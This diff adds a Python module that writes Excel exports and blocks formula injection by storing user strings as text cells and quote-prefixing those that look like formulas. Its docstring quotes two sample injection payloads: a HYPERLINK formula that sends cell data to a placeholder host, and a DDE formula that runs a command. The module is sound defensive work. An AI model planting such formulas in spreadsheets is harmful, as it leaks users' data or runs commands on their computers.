@@ -1,0 +1,40 @@
+"""Excel files we write: user text goes in as text, never as a formula.
+
+A unit name or a person's name such as `=HYPERLINK("http://x/?"&B3,"点击")` or
+`=cmd|' /C calc'!A0` would otherwise become a live formula in the office's Excel (OWASP: CSV /
+formula injection). Every export builds its rows with `append_row`: each string cell is stored
+as a string, exactly as typed, and one that starts like a formula (=, +, -, @, tab, CR) is also
+marked "quote prefix", so Excel keeps it text when someone edits the cell.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterable
+from io import BytesIO
+
+from openpyxl.cell.cell import Cell
+from openpyxl.workbook import Workbook
+from openpyxl.worksheet.worksheet import Worksheet
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+
+def text_cell(ws: Worksheet, value: str) -> Cell:
+    """A cell holding `value` as text, whatever it starts with."""
+    cell = Cell(ws, value=value)
+    cell.data_type = "s"  # openpyxl guessed a formula for a leading "="; it is text
+    if value.startswith(FORMULA_STARTS):
+        cell.quotePrefix = True
+    return cell
+
+
+def append_row(ws: Worksheet, values: Iterable) -> None:
+    """Append one row: strings as text cells, numbers, dates and None as they are."""
+    ws.append([text_cell(ws, v) if isinstance(v, str) else v for v in values])
+
+
+def to_bytes(wb: Workbook) -> bytes:
+    out = BytesIO()
+    wb.save(out)
+    return out.getvalue()
